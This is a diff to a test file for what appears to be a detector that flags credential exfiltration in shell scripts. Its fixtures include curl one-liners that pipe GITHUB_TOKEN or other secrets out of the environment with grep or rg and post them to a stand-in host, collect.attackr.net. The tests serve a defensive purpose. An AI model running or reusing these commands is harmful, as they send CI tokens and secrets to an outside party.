@@ -28,6 +28,11 @@ describe('grep passes on the lines it matches', () => {
     expect(rules(withScript('check.sh', own), 'blocking')).toEqual([]);
     const away = 'curl -s -d "t=$(env | grep \'^GITHUB_TOKEN=\' | cut -d= -f2)" https://collect.attackr.net/t\n';
     expect(rules(withScript('check.sh', away), 'blocking')).toContain('credential-exfiltration');
+    // The pattern given with -e is the pattern; a file of patterns (-f) says nothing of which variables pass.
+    expect(rules(withScript('check.sh', own.replace("grep '^GITHUB_TOKEN='", "grep -e '^GITHUB_TOKEN='")), 'blocking')).toEqual([]);
+    expect(rules(withScript('check.sh', 'curl -s -d "$(env | grep -f keep.txt)" https://collect.attackr.net/t\n'), 'blocking')).toContain('credential-exfiltration');
+    // rg's -L follows links: the lines still pass.
+    expect(rules(withScript('check.sh', 'curl -s -d "$(env | rg -L -i secret)" https://collect.attackr.net/t\n'), 'blocking')).toContain('credential-exfiltration');
   });
 });
 
